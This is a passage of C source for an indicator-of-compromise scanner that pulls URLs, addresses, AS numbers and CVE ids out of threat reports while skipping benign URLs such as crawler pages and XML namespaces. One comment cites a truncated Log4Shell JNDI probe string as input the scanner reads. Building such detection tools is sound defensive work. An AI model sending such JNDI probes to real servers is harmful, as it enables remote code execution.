 * before it hold no digit, mark or UTF-8, so no shape can take them (a
 * hash has a digit), and a blank ends a token (a blank is no '=', where
 * local_equals may join one). But "AS 4134", "ASN 4134" and "CVE
 * 2024-3094" are read from their first word: before one, scan reads
 * word by word.
 */
static size_t
skip_words(const struct ioc_scanner *sc, size_t i)
{
	const char *t = sc->text.data;
	size_t s = i;

	next_needed(t, sc->text.len, i, &s);
	if (s >= i + 3 && t[s - 1] == ' ' && ((t[s - 3] == 'A' &&
	    t[s - 2] == 'S') || (s >= i + 4 && ((t[s - 4] == 'A' &&
	    t[s - 3] == 'S' && t[s - 2] == 'N') || ((t[s - 2] | 0x20) == 'e' &&
	    (t[s - 4] | 0x20) == 'c' && (t[s - 3] | 0x20) == 'v')))))
		return i;
	return s;
}

/*
 * Cutting a token: most are letters, digits, '.', '-' and '@' (none of
 * them a stop), stepped over 16 bytes at a time, without a branch a byte
 * (whose end, a token's length, the processor cannot guess); the marks
 * of the bytes stepped over ('.' and '@': ':' stops a run) added to
 * *marks (C_MARK, C_DOT, C_AT) from the same 16 bytes.
 */
static size_t
token_run(const char *t, size_t n, size_t j, unsigned *marks)
{
	unsigned run, in, dots, ats;
	v16 a, la;

	for (; j + 16 <= n; j += 16) {
		memcpy(&a, t + j, 16);
		la = a | 0x20;
		run = lanes(IN_RANGE(a, '0', '9') | IN_RANGE(la, 'a', 'z') |
		    IN_RANGE(a, '-', '.') | (v16)(a == '@'));
		in = run == 0xffff ? run : ((1u << __builtin_ctz(~run)) - 1);
		dots = lanes((v16)(a == '.')) & in;
		ats = lanes((v16)(a == '@')) & in;
		*marks |= (dots ? C_MARK | C_DOT : 0) |
		    (ats ? C_MARK | C_AT : 0);
		if (run != 0xffff)
			return j + (size_t)__builtin_ctz(~run);
	}
	return j;
}

/*
 * A token read before is not read again. One that gave nothing is
 * remembered by the scanner (MISS_SLOTS of them); with a set to fill
 * (ioc_scan_into), one that gave an indicator is remembered by the set
 * with its entry, and counted there at once: the report's thousandth
 * "198.51.100.7" costs a look-up. A token is known by its bytes and
 * by refang's rewrites in it (edits_sig: "evil[.]sh" is a host,
 * "evil.sh" a file). That holds where nothing outside the token changes
 * what it gives: a MIME boundary's "=" before it, a letter or digit
 * right after it (a token cut where a URL's scheme starts: "AS1" of
 * "AS1ftp://" is no AS number), code around it (code_context),
 * "version" before an address (asked again each time: memo_holds), the
 * words after "AS" (a token that read past its end is not kept).
 * memo_shape: tokens token() may take, the rest are words.
 */
static int
memo_shape(const struct ioc_scanner *sc, size_t i, size_t j, unsigned marks)
{
	const char *t = sc->text.data;
	size_t n = j - i;

	return n >= 2 && ((marks & C_MARK) || n == 32 || n == 40 || n == 64 ||
	    n == 128 || ((t[i] | 0x20) == 'c' && n >= 13) ||
	    (t[i] == 'A' && t[i + 1] == 'S'));
}

/* memo_context: asked before each token the memo may take, from one
 * place in ioc_scan's loop; GCC stopped inlining it as it grew (+6 M
 * instructions at 10 MB as a call). */
static inline __attribute__((always_inline)) int
memo_context(struct ioc_scanner *sc, size_t i, size_t j)
{
	return !(sc->cls[(unsigned char)sc->text.data[j]] & C_ALNUM) &&
	    !mime_boundary(sc, i) && !code_context(sc, i, j) &&
	    !checksum_context(sc, i, j) && !key_context(sc, i, j);
}

/* Whether what a token gave holds here: version_before and host_said
 * at t[at] give the answers it had (version: as memo_version, not 0). */
static int
memo_asked(struct ioc_scanner *sc, size_t at, int version)
{
	return (!(version & VB_MASK) || (version_before(sc, at) ? VB_YES :
	    VB_NO) == (version & VB_MASK)) && (!(version & HS_MASK) ||
	    (host_said(sc, at) ? HS_YES : HS_NO) == (version & HS_MASK));
}

/* memo_asked, or 1 when nothing was asked (most tokens: no call). */
static inline int
memo_holds(struct ioc_scanner *sc, size_t at, int version)
{
	return !version || memo_asked(sc, at, version);
}

/* What a token or URL of hash h will give is to be watched (emit), so
 * that it may be remembered. */
static inline void
memo_begin(struct ioc_scanner *sc, uint64_t h)
{
	sc->memo_want = 1;
	sc->memo_admit = sc->set && memo_seen(sc->set, h);
	sc->memo_emits = 0;
	sc->memo_idx[0] = sc->memo_idx[1] = 0;
	sc->memo_version = 0;
	sc->memo_outside = 0;
}

/* Remember what t[i..j) gave (token() read nothing past it). */
static void
memo_keep(struct ioc_scanner *sc, size_t i, size_t j, uint64_t h)
{
	size_t at = sc->memo_version ? sc->memo_va - i : 0;
	struct miss_slot *ms;

	if (sc->memo_emits == 0 && j - i <= MISS_KEY && at <= UINT8_MAX) {
		ms = &sc->miss[h & (MISS_SLOTS - 1)];
		ms->hash = h;
		ms->len = (uint16_t)(j - i);
		ms->at = (uint8_t)at;
		ms->version = (uint8_t)sc->memo_version;
		memcpy(ms->key, sc->text.data + i, j - i);
	} else if (sc->memo_emits == 1 && sc->memo_idx[0]) {
		memo_put(sc->set, sc->text.data + i, j - i, h, sc->memo_idx[0],
		    at, sc->memo_version);
	}
}

/* Whether a product token of a User-Agent ends at t[k]: a name, '/'
 * and a version that starts with a digit ("CCBot/2.0"), after a blank,
 * a quote or the line's start. */
static int
agent_product(const struct ioc_scanner *sc, size_t k)
{
	const char *t = sc->text.data;
	size_t v = k, p;

	while (v > 0 && (ascii_alnum((unsigned char)t[v - 1]) ||
	    t[v - 1] == '.') && k - v < 32)
		v--;
	if (v < 2 || t[v - 1] != '/' ||
	    !(sc->cls[(unsigned char)t[v]] & C_DIGIT))
		return 0;
	for (p = v - 1; p > 0 && (ascii_alnum((unsigned char)t[p - 1]) ||
	    t[p - 1] == '-' || t[p - 1] == '_') && v - p < 48; p--)
		;
	return p < v - 1 && (p == 0 || t[p - 1] == ' ' || t[p - 1] == '"' ||
	    t[p - 1] == '\n');
}

/*
 * Whether the URL t[i..e) is a crawler's own page in its User-Agent's
 * comment, as web logs pasted into a report give them: "(compatible;
 * Googlebot/2.1; +http://www.google.com/bot.html)", "(compatible;
 * MJ12bot/v1.4.8; http://mj12bot.com/)", "(compatible; archive.org_bot
 * +http://archive.org/details/archive.org_bot)", facebookexternalhit's
 * "(+http://www.facebook.com/externalhit_uatext.php)", a comment that
 * is the URL alone after a product ("CCBot/2.0
 * (https://commoncrawl.org/faq/)"). The crawler names itself there; a
 * URL the agent string carries otherwise (a Log4Shell probe's
 * "${jndi:ldap://...}") is read.
 */
static int
agent_comment(const struct ioc_scanner *sc, size_t i, size_t e)
{
	const char *t = sc->text.data;
	size_t k = i, o;
	int plus = k > 0 && t[k - 1] == '+';

	k -= plus;
	if (k > 0 && t[k - 1] == '(')	/* "(+http://", "CCBot/2.0 (http" */
		return plus || (t[e] == ')' && k >= 2 && t[k - 2] == ' ' &&
		    agent_product(sc, k - 2));
	if (k > 0 && t[k - 1] == ' ')
		k--;
	if (k == 0 || (t[k - 1] != ';' && !plus))
		return 0;
	for (o = k; o > 0 && k - o < 256 && t[o - 1] != '(' &&
	    t[o - 1] != ')' && t[o - 1] != '\n'; o--)
		;
	return o > 0 && t[o - 1] == '(' &&
	    strncasecmp(t + o, "compatible;", 11) == 0;
}

/* The name of the XML attribute whose value's opening quote is at
 * t[q] (name="..."), ending before the '=': 1 when it names a
 * namespace (xmlns, xmlns:stix), 2 a list of schemas' places
 * (xsi:schemaLocation, noNamespaceSchemaLocation), else 0. */
static int
xml_meta_attr(const char *t, size_t q)
{
	size_t e = q, k;

	if (e == 0 || t[--e] != '=')
		return 0;
	if (e >= 14 && t[e - 1] == 'n' && (memcmp(t + e - 14,
	    "schemaLocation", 14) == 0 || memcmp(t + e - 14,
	    "SchemaLocation", 14) == 0))
		return 2;
	for (k = e; k > 0 && e - k < 64 && (unsigned char)t[k - 1] > ' ' &&
	    t[k - 1] != '"' && t[k - 1] != '\''; k--)
		;	/* the name: "xmlns", "xmlns:stix" */
	return e - k >= 5 && memcmp(t + k, "xmlns", 5) == 0 &&
	    (e - k == 5 || t[k + 5] == ':');
}

/*
 * Whether the URL t[i..e), after a quote, is an XML document's own: a
 * namespace's name (xmlns="http://www.w3.org/1999/xhtml",
 * xmlns:stix="http://stix.mitre.org/stix-1"), a list of schemas' places
 * (xsi:schemaLocation="ns url ns url", on one line or more), a
 * DOCTYPE's DTD. Names of formats, not places anyone was sent to: a
 * STIX 1.x, OpenIOC, plist or XHTML document read as text gave w3.org's,
 * mitre.org's and apple.com's. Where scanning goes on (past a list's
 * closing quote), 0 when it is none of these.
 */
static size_t __attribute__((noinline))	/* scan_url's rare question */
xml_meta_url(const struct ioc_scanner *sc, size_t i, size_t e)
{
	const char *t = sc->text.data;
	size_t k, n = sc->text.len;
	int attr = xml_meta_attr(t, i - 1);

	if (attr == 2) {	/* the list's other URIs too */
		for (k = i; k < n && k - i < 4096 && t[k] != t[i - 1] &&
		    t[k] != '<' && t[k] != '>'; k++)
			;
		return k < n && t[k] == t[i - 1] ? k : e;
	}
	if (attr)
		return e;
	/* a DTD's: after its public id's closing quote or SYSTEM, in a
	 * <!DOCTYPE ...> on its line */
	if (i < 3 || t[i - 2] != ' ' || (t[i - 3] != '"' && t[i - 3] != '\'' &&
	    (i < 8 || memcmp(t + i - 8, "SYSTEM", 6) != 0)))
		return 0;
	for (k = i - 2; k > 0 && i - k < 512 && t[k - 1] != '<' &&
	    t[k - 1] != '>' && t[k - 1] != '\n'; k--)
		;
	return k > 0 && t[k - 1] == '<' && strncasecmp(t + k, "!doctype", 8) ==
	    0 ? e : 0;
}

/* ICANN's page on a domain status code, which a gTLD's WHOIS record
 * links after each ("Domain Status: clientTransferProhibited
 * https://icann.org/epp#clientTransferProhibited"). */
static int
epp_status_url(const char *u, size_t n)
{
	if (n <= 23 || ((u[8] | 0x20) != 'i' && (u[8] | 0x20) != 'w'))
		return 0;	/* most URLs: no call */
	return strncasecmp(u, "https://icann.org/epp#", 22) == 0 ||
	    (n > 27 && strncasecmp(u, "https://www.icann.org/epp#", 26) == 0);
}

/*
 * A URL at t[i]: where scanning goes on, 0 when there is none. With a
 * set to fill, a URL read before (its bytes and refang's rewrites in
 * them, as a token's) is counted, not read again: the URL and its host,
 * two entries (see url_find). What try_url reads lies inside the URL;
 * one whose host wraps a link (note_wrapped: its target is read
 * afterwards) is not remembered.
 */
static size_t
scan_url(struct ioc_scanner *sc, size_t i)
{
	const char *t = sc->text.data;
	size_t sl = scheme_len(t + i, sc->text.len - i), e, k, nwraps;
	struct url_slot *u;
	uint64_t h;

	if (sl == 0 || (e = url_end(sc, i)) <= i + sl)
		return 0;
	if (contact_value(sc, i) || rule_url(sc, i) ||
	    epp_status_url(t + i, e - i) ||
	    agent_comment(sc, i, e))
		return e;	/* "Registrar URL: http://...": not read */
	if (i > 1 && (t[i - 1] == '"' || t[i - 1] == '\'') &&
	    (t[i - 2] == '=' || t[i - 2] == ' ') &&
	    (k = xml_meta_url(sc, i, e)) != 0)
		return k;	/* xmlns="http://www.w3.org/1999/xhtml" */
	if (sc->set == NULL)
		return try_url(sc, i, sl, e);
	h = digest_table_hash(t + i, e - i, IOC_NTYPES + 1) ^
	    edits_sig(sc, i, e);
	if ((u = url_hit(sc->set, t + i, e - i, h)) != NULL) {
		url_count(sc->set, u);
		return e;
	}
	memo_begin(sc, h);
	nwraps = sc->nwraps;
	k = try_url(sc, i, sl, e);
	sc->memo_want = 0;
	if (k == e && sc->memo_emits == 2 && sc->memo_idx[0] &&
	    sc->memo_idx[1] && !sc->memo_version && !sc->memo_outside &&
	    sc->nwraps == nwraps)
		url_put(sc->set, t + i, e - i, h, sc->memo_idx);
	return k;
}

/* "h=\nttp://" at t[i]: quoted-printable's soft break inside a link's
 * scheme (a message read as it stands), not a link defanged by its
 * first letter. */
static int
soft_break_h(const char *t, size_t i)
{
	if (i == 0 || t[--i] != '\n')
		return 0;
	if (i > 0 && t[i - 1] == '\r')
		i--;
	return i >= 2 && t[i - 1] == '=' && (t[i - 2] | 0x20) == 'h';
}

/*
 * A word glued to a scheme: "clickhttp://evil.com/x", "herehttps://",
 * "downloadftp://", the letters t[s0..j) before "://". The URL starts
 * at its scheme (returned; 0 when there is none) when two letters or
 * more come before it: one is a scheme of its own ("sftp://",
 * "tftp://", "shttp://").
 */
static size_t
glued_scheme(const char *t, size_t n, size_t s0, size_t j)
{
	static const char *const schemes[] = { "https", "http", "ftp" };
	size_t i, k;

	for (i = 0; i < sizeof(schemes) / sizeof(schemes[0]); i++) {
		k = strlen(schemes[i]);
		if (j >= s0 + k + 2 && strncasecmp(t + j - k, schemes[i],
		    k) == 0 && scheme_len(t + j - k, n - (j - k)))
			return j - k;
	}
	return 0;
}

/*
 * A token cut and not yet read: scan cuts a few ahead of what it reads,
 * and fetches each one's memo slots as it cuts it, so that the waits on
 * memory of several tokens overlap. Tokens are read in the order cut,
 * and what reading one does depends on the text and on what was read
 * before it, never on what was cut after it: the same as reading each
 * at once. Cutting never depends on reading, but for "AS" and "ASN",
 * whose number may follow in the next token (try_asn): "ASN 4134" is
 * cut whole (asn_whole), and the others are read at once, after those
 * waiting (cut_reads_on).
 */
#define CUT_AHEAD 8		/* a power of two */

struct cut {
	size_t i, j;
	uint64_t h;
	unsigned marks;
	int memo;		/* memo_shape and memo_context: h is set */
	size_t asn;		/* "ASN 4134" cut whole (asn_whole): the end
				 * of "ASN", the token read; else 0 */
};

/* Read t[c->i..c->j): where scanning goes on (try_asn may read on). */
static size_t
read_cut(struct ioc_scanner *sc, const struct cut *c)
{
	const char *t = sc->text.data;
	const struct miss_slot *ms;
	struct memo_slot *m;
	size_t i = c->i, j = c->j, k = c->asn ? c->asn : c->j;
	uint64_t h = c->h;

	if (skipped(sc, i))
		return j;	/* a pasted field's receiver, say */
	if (!c->memo) {
		token(sc, i, &k, c->marks);
		return k;
	}
	ms = &sc->miss[h & (MISS_SLOTS - 1)];
	if (ms->hash == h && ms->len == j - i &&
	    digest_table_same(ms->key, t + i, j - i) &&
	    memo_holds(sc, i + ms->at, ms->version))
		return j;	/* it gives nothing */
	if (sc->set && (m = memo_hit(sc->set, t + i, j - i, h)) != NULL &&
	    memo_holds(sc, i + m->at, m->version)) {
		memo_count(sc->set, m);
		return j;
	}
	memo_begin(sc, h);
	token(sc, i, &k, c->marks);
	sc->memo_want = 0;
	if (c->asn ? k == j : !sc->memo_outside)	/* "ASN 4134": whole */
		memo_keep(sc, i, k, h);
	return c->asn ? j : k;
}

/* Whether t[i..j) may read past its end: it ends in "AS" or "ASN",
 * whatever token() trims (a superset of it is trimmed here). */
static int
cut_reads_on(const struct ioc_scanner *sc, size_t i, size_t j)
{
	const char *t = sc->text.data;
	unsigned char c;

	if (j < i + 2 || ((c = (unsigned char)t[j - 1]) != 'S' && c != 'N' &&
	    c != ':' && !(sc->cls[c] & C_RTRIM)))
		return 0;	/* most tokens */
	while (j > i && ((sc->cls[(unsigned char)t[j - 1]] & C_RTRIM) ||
	    t[j - 1] == ':'))
		j--;
	if (j > i && t[j - 1] == 'N')
		j--;
	return j >= i + 2 && t[j - 2] == 'A' && t[j - 1] == 'S';
}

struct cuts {
	struct cut q[CUT_AHEAD];
	size_t head, n;
};

/* Read the tokens waiting, oldest first. */
static void
cuts_read(struct ioc_scanner *sc, struct cuts *w)
{
	for (; w->n > 0; w->n--, w->head = (w->head + 1) & (CUT_AHEAD - 1))
		read_cut(sc, &w->q[w->head]);
}

static void
scan(struct ioc_scanner *sc)
{
	const char *t = sc->text.data;
	size_t n = sc->text.len, i = 0, j, s0, k, glued = SIZE_MAX;
	struct cuts w = { .n = 0 };
	struct cut *next;
	unsigned marks;
	int armor = armor_at_start(sc);

	while (i < n && !sc->stop) {
		unsigned char c = (unsigned char)t[i];

		if ((i == 0 || t[i - 1] == '\n') &&
		    (k = skip_line(sc, i, &armor, &w)) != i) {
			i = k;
			continue;
		}

		if ((sc->cls[c] & C_SEP) || (c >= 0xc2 &&
		    ((k = uni_sep(t, n, i)) != 0 ||
		    (k = wide_dash(t, n, i)) != 0))) {
			i += (sc->cls[c] & C_SEP) ? 1 : k;
			continue;
		}
		if (!needed(c) && (k = skip_words(sc, i)) > i) {
			i = k;
			continue;
		}
		/* Not inside a word ("xhttp://" is no scheme); after digits
		 * it may start one: "2024-11-22http://...", a column glued
		 * to the next (the token loop cut the digits off), and after
		 * a word glued to it ("clickhttp://", see glued_scheme). */
		if ((c | 0x20) == 'h' || (c | 0x20) == 'f' ||
		    ((c | 0x20) == 't' && (t[i + 1] | 0x20) == 't' &&
		    !soft_break_h(t, i))) {
			if ((i == 0 || !(sc->cls[(unsigned char)t[i - 1]] &
			    C_ALNUM) || (sc->cls[(unsigned char)t[i - 1]] &
			    C_DIGIT) || i == glued) &&
			    scheme_len(t + i, n - i) != 0) {
				cuts_read(sc, &w);	/* a URL is read now */
				if (!skipped(sc, i) &&
				    (k = scan_url(sc, i)) != 0) {
					i = k;
					continue;
				}
			}
		}
		/* t[n] is the NUL the buffer keeps: a stop, so that the
		 * loop tests one bit a byte. */
		marks = 0;	/* of t[i..j), as the loop steps */
		for (j = i;; j++) {
			j = token_run(t, n, j, &marks);
			while (!(sc->cls[(unsigned char)t[j]] & C_TOKSTOP))
				marks |= sc->cls[(unsigned char)t[j++]];
			if (j >= n || ((sc->cls[(unsigned char)t[j]] & C_SEP) &&
			    (t[j] != '=' ||
			    !local_equals(sc, i, j))) || ((unsigned char)t[j] >=
			    0xc2 && (uni_sep(t, n, j) || (wide_dash(t, n, j) &&
			    !dash_token(t, i, j)))))
				break;
			marks |= sc->cls[(unsigned char)t[j]];	/* ':' */
			/* Chinese, Japanese and Korean put no blank between
			 * their words and ours: "地址198.51.100.8", "evil.com和",
			 * "1.2.3.4에서". A token never runs from one into the
			 * other (a name of ideographs, "例子.中国", stays). */
			if ((unsigned char)t[j] >= 0xe3 &&
			    (k = cjk_char(t, n, j)) != 0) {
				if (j > i &&
				    ascii_alnum((unsigned char)t[j - 1]))
					break;
				if (ascii_alnum((unsigned char)t[j + k])) {
					j += k;
					break;
				}
				j += k - 1;
				continue;
			}
			if (t[j] != ':' || j + 2 >= n || t[j + 1] != '/' ||
			    t[j + 2] != '/')
				continue;
			for (s0 = j; s0 > i && ((t[s0 - 1] | 0x20) >= 'a' &&
			    (t[s0 - 1] | 0x20) <= 'z'); s0--)
				;
			/* (marks keeps the ':' of a URL cut off below: a
			 * hint, each use of it looks in the token) */
			if (s0 > i && scheme_len(t + s0, n - s0)) {
				j = s0;	/* the URL starts a new token */
				break;
			}
			if ((k = glued_scheme(t, n, s0, j)) != 0) {
				j = glued = k;
				break;
			}
		}
		marks &= C_MARK | C_DOT | C_COLON | C_AT;
		if (plain_word(sc, i, j, marks)) {
			i = j > i ? j : i + 1;
			continue;
		}
		next = &w.q[(w.head + w.n) & (CUT_AHEAD - 1)];
		next->asn = 0;
		if ((k = asn_whole(sc, i, j)) != 0 && memo_context(sc, i, k)) {
			next->asn = j;	/* read as one token, not on */
			j = k;
		} else if ((k = spaced_whole(sc, i, j)) != 0) {
			/* "198.51.100.0 - 198.51.100.255", "10.0.0.0
			 * 255.0.0.0" */
			j = k;
		} else if (j - i == 3 && (k = cve_whole(sc, i, j)) != 0) {
			j = k;	/* "CVE 2024-3094" */
		} else if (t[i] == 'A' && (k = asn_slash(sc, i, j)) != 0) {
			j = k;	/* "AS4134/AS4837": two tokens */
		}
		next->i = i;
		next->j = j;
		next->marks = marks;
		next->memo = next->asn || (memo_shape(sc, i, j, marks) &&
		    memo_context(sc, i, j));
		if (next->memo) {
			if (sc->miss == NULL)
				sc->miss = xcalloc_lines(MISS_SLOTS,
				    sizeof(*sc->miss));
			next->h = digest_table_hash(t + i, j - i, IOC_NTYPES) ^
			    edits_sig(sc, i, j);
			__builtin_prefetch(&sc->miss[next->h &
			    (MISS_SLOTS - 1)]);
			if (sc->set)
				memo_prefetch(sc->set, next->h);
		}
		if (cut_reads_on(sc, i, j)) {
			cuts_read(sc, &w);
			j = read_cut(sc, next);
		} else if (++w.n == CUT_AHEAD) {
			read_cut(sc, &w.q[w.head]);
			w.head = (w.head + 1) & (CUT_AHEAD - 1);
			w.n--;
		}
		i = j > i ? j : i + 1;
	}
	cuts_read(sc, &w);
}

/* An indicator of a wrapped link's target: found where the wrapper is. */
struct unwrap {
	const struct wrap *w;
	ioc_fn fn;
	void *arg;
};

static int
unwrapped(const struct ioc *ioc, void *arg)
{
	const struct unwrap *u = arg;
	struct ioc at = *ioc;

	at.offset = u->w->off;
	at.length = u->w->len;
	return u->fn(&at, u->arg);
}

struct into {
	struct ioc_set *set;
	const struct ioc_allowlist *al;
};

static int
add_into(const struct ioc *ioc, void *arg)
{
	const struct into *to = arg;

	ioc_set_add(to->set, ioc, to->al);
	return 0;
}

void
ioc_scan_into(struct ioc_scanner *sc, const char *text, size_t len,
    size_t base, struct ioc_set *set, const struct ioc_allowlist *al)
{
	struct into to = { set, al };

	sc->set = set;
	sc->al = al;
	ioc_scan(sc, text, len, base, add_into, &to);
	sc->set = NULL;
}

/* The first quote, separator or line end at or after t[i]; n when
 * there is none. */
static size_t
csv_stop(const char *t, size_t n, size_t i, char sep)
{
	unsigned bits;
	v16 a;

	for (; i + 16 <= n; i += 16) {
		memcpy(&a, t + i, 16);
		bits = lanes((v16)((a == '"') | (a == (unsigned char)sep) |
		    (a == '\n')));
		if (bits)
			return i + (size_t)__builtin_ctz(bits);
	}
	while (i < n && t[i] != '"' && t[i] != sep && t[i] != '\n')
		i++;
	return i;
}

/*
 * The refanged chunk as a CSV report's records, its columns sc->cols
 * (ioc_scanner_columns): a version's cells blanked ("7.2.4.1" is no
 * address; one with a '/', ':' or '@', a link, an IPv6 address or a
 * mailbox, is read), a host's noted for host_said ("router.evil-isp.pl"
 * is a host's name). A record is read so where it stands on one line and
 * each of its cells is whole: no quote in it, or quoted from its first
 * byte to its last. The header's columns are its first cells; a cell
 * past them is text. Else, and where the chunk starts inside a quoted
 * cell, the line stays text.
 */
static void __attribute__((noinline))	/* out of scan's registers */
csv_cells(struct ioc_scanner *sc)
{
	char *t = sc->text.data, sep = sc->cols.sep;
	size_t n = sc->text.len, i = 0, a, b, e, col, k;
	size_t *cell = sc->cells;
	int quoted, quotes, whole;

	sc->nhosts = 0;
	while (i < n) {	/* a line: its cells' bounds, while whole */
		col = 0;
		quoted = quotes = 0;
		whole = 1;
		for (a = e = i;; e++) {
			e = csv_stop(t, n, e, sep);
			if (e < n && t[e] == '"') {
				quoted = !quoted;
				quotes = 1;
				continue;
			}
			if (e < n && quoted && t[e] == sep)
				continue;
			b = e < n && t[e] == '\n' && e > a && t[e - 1] == '\r' ?
			    e - 1 : e;	/* the cell t[a..b) */
			whole &= !quoted && (!quotes || (b - a >= 2 &&
			    t[a] == '"' && t[b - 1] == '"'));
			if (col < sc->cols.n) {
				cell[2 * col] = a;
				cell[2 * col++ + 1] = b;
			}
			if (e == n || t[e] == '\n')
				break;
			a = e + 1;
			quotes = 0;
		}
		for (k = 0; whole && k < col; k++) {
			a = cell[2 * k];
			b = cell[2 * k + 1];
			if (sc->cols.kinds[k] == CSVREPORT_VERSION &&
			    !memchr(t + a, '/', b - a) &&
			    !memchr(t + a, ':', b - a) &&
			    !memchr(t + a, '@', b - a))
				memset(t + a, ' ', b - a);	/* a link's
							 * stays one */
			else if (sc->cols.kinds[k] == CSVREPORT_HOST && b > a) {
				if (sc->nhosts == sc->hosts_alloc) {
					sc->hosts_alloc = sc->hosts_alloc ?
					    2 * sc->hosts_alloc : 64;
					sc->hosts = xreallocarray(sc->hosts,
					    sc->hosts_alloc, 2 *
					    sizeof(*sc->hosts));
				}
				sc->hosts[2 * sc->nhosts] = a;
				sc->hosts[2 * sc->nhosts++ + 1] = b;
			}
		}
		i = e + 1;
	}
}

#define SCAN_WHOLE (2 * 1024 * 1024)	/* a text longer is read in parts */
#define SCAN_PART (1024 * 1024)

/*
 * A text longer than SCAN_WHOLE (a message's part, an attachment's
 * text), read in parts of about SCAN_PART cut as ioc extract cuts a
 * file's (ioc_part_cut). What the refanged copy and its
 * edits take then stays within a part's: 21 MB of "[.]" took 346 MB.
 */
static int
scan_parts(struct ioc_scanner *sc, const char *text, size_t len,
    size_t base, ioc_fn fn, void *arg)
{
	size_t at = 0, n;
	const char *nl;
	int stop = 0;

	while (at < len && !stop) {
		n = len - at;
		if (n > SCAN_PART) {
			nl = memrchr(text + at, '\n', SCAN_PART);
			n = ioc_part_cut(text + at, SCAN_PART, nl);
		}
		stop = ioc_scan(sc, text + at, n, base + at, fn, arg);
		at += n;
	}
	return stop;
}

int
ioc_scan(struct ioc_scanner *sc, const char *text, size_t len, size_t base,
    ioc_fn fn, void *arg)
{
	struct out o = { .text = &sc->text, .edits = &sc->edits,
	    .nedits = &sc->nedits, .alloc = &sc->alloc };
	struct unwrap u = { NULL, fn, arg };
	size_t i;

	if (len > SCAN_WHOLE)
		return scan_parts(sc, text, len, base, fn, arg);
	buf_reset(&sc->text);
	buf_reset(&sc->wrapped);
	sc->nwraps = 0;
	sc->nedits = 0;
	sc->edit_hint = sc->cut_hint = 0;
	refang(&o, text, len);
	sc->text.data[sc->text.len] = '\0';	/* scan's sentinel */
	if (sc->cols.kinds)
		csv_cells(sc);
	sc->fn = fn;
	sc->arg = arg;
	sc->base = base;
	sc->stop = 0;
	sc->version_a = SIZE_MAX;
	sc->nskips = 0;
	sc->skip_hi = 0;
	scan(sc);
	for (i = 0; i < sc->nwraps && !sc->stop; i++) {
		if (sc->inner == NULL) {
			sc->inner = ioc_scanner_new();
			sc->inner->nested = sc->nested + 1;
		}
		u.w = &sc->wraps[i];
		sc->stop = ioc_scan(sc->inner, sc->wrapped.data + u.w->at,
		    strlen(sc->wrapped.data + u.w->at), 0, unwrapped, &u);
	}
	return sc->stop;
}

/*
 * The allowlist: networks (both families, as 16 bytes with a prefix
 * length; IPv4 as IPv4-mapped), domains, and exact values, each kind in
 * a map, so that a list of thousands (a constituency's networks, the
 * partners' domains) costs a report's new indicator a few look-ups, not
 * a pass over the list: a name is looked up at each of its label
 * boundaries, an address once for each prefix length the list holds.
 */
struct ioc_allowlist {
	struct strmap nets;	/* net_key(): the address masked, its bits */
	unsigned char bits[129];	/* the prefix lengths listed, rising */
	int nbits;
	struct strmap names;	/* domains, lowercase A-labels */
	uint64_t *tails;	/* a bit for each name's tail (tail_hash) */
	size_t tails_mask;	/* the bits - 1 */
	struct strmap exact;	/* anything else, lowercase (AS numbers
				 * normalized) */
	uint64_t exact_lens[4];	/* a bit for each one's length (255: or
				 * more): most values have none's */
};

struct ioc_allowlist *
ioc_allowlist_new(void)
{
	return xcalloc(1, sizeof(struct ioc_allowlist));
}

void
ioc_allowlist_free(struct ioc_allowlist *al)
{
	if (al == NULL)
		return;
	strmap_free(&al->nets);
	strmap_free(&al->names);
	free(al->tails);
	strmap_free(&al->exact);
	free(al);
}

/* "a.b.c.d", "a:b::c", with an optional "/bits": 16 bytes and bits;
 * -1 when it is no address. */
static int
parse_net(const char *s, unsigned char addr[16], int *bits)
{
	char buf[INET6_ADDRSTRLEN + 8], *slash, *end;
	unsigned char v4[4];
	long b;
	int max;

	if (strlen(s) >= sizeof(buf))
		return -1;
	strcpy(buf, s);
	if ((slash = strchr(buf, '/')) != NULL)
		*slash++ = '\0';
	memset(addr, 0, 16);
	if (inet_pton(AF_INET, buf, v4) == 1) {
		addr[10] = addr[11] = 0xff;
		memcpy(addr + 12, v4, 4);
		max = 32;
	} else if (inet_pton(AF_INET6, buf, addr) == 1) {
		max = 128;
	} else {
		return -1;
	}
	*bits = 128;
	if (slash) {
		b = strtol(slash, &end, 10);
		if (*slash == '\0' || *end != '\0' || b < 0 || b > max)
			return -1;
		*bits = (int)b + 128 - max;
	}
	return 0;
}

#define NET_KEY_MAX (2 * 16 + 5)

/* The key of the network addr/bits: its first bits bits in hex (the
 * rest zero), "/" and bits. */
static void
net_key(const unsigned char *addr, int bits, char out[NET_KEY_MAX])
{
	static const char hex[] = "0123456789abcdef";
	unsigned char b;
	int i;

	for (i = 0; i < 16; i++) {
		b = i < bits / 8 ? addr[i] : i == bits / 8 ?
		    (unsigned char)(addr[i] & (0xff00 >> (bits % 8))) : 0;
		out[2 * i] = hex[b >> 4];
		out[2 * i + 1] = hex[b & 15];
	}
	snprintf(out + 32, NET_KEY_MAX - 32, "/%d", bits);
}

/* key lowercased is in m (not measured when m is empty: most lists
 * hold no hash or CVE id). */
static int
has_lower(const struct strmap *m, const char *key)
{
	char buf[LOWER_BUF], *c;
	int hit;

	if (m->n == 0)
		return 0;
	c = lower_copy(key, strlen(key), buf);
	hit = strmap_get(m, c) != NULL;
	if (c != buf)
		free(c);
	return hit;
}

static void
put_lower(struct strmap *m, const char *s)
{
	char buf[LOWER_BUF], *c = lower_copy(s, strlen(s), buf);

	strmap_put(m, c, 1);
	if (c != buf)
		free(c);
}

/* An exact value, lowercased, and its length's bit. */
static void
exact_put(struct ioc_allowlist *al, const char *s)
{
	size_t n = strlen(s);

	if (n > 255)
		n = 255;
	put_lower(&al->exact, s);
	al->exact_lens[n / 64] |= (uint64_t)1 << (n % 64);
}

/* v is an exact value listed: asked of each new hash, CVE id and AS
 * number, most of a length no entry has (the default list's only one
 * is our address's host, "localhost"). */
static int
exact_listed(const struct ioc_allowlist *al, const char *v)
{
	size_t n = strlen(v);

	if (n > 255)
		n = 255;
	return (al->exact_lens[n / 64] >> (n % 64) & 1) &&
	    has_lower(&al->exact, v);
}

/*
 * A name's tail: its last two labels ("evil.com" of "a.b.evil.com"),
 * all of it when it has fewer. The names listed have two labels or more
 * (ioc_allowlist_add), so a name lies under a listed one only if the two
 * have the same tail: a bit for each listed tail answers most names
 * without a look-up for each of their labels (tails_listed).
 */
static uint64_t
tail_hash(const char *c, size_t n)
{
	size_t k = n;
	int dots = 0;

	while (k > 0 && (c[k - 1] != '.' || ++dots < 2))
		k--;
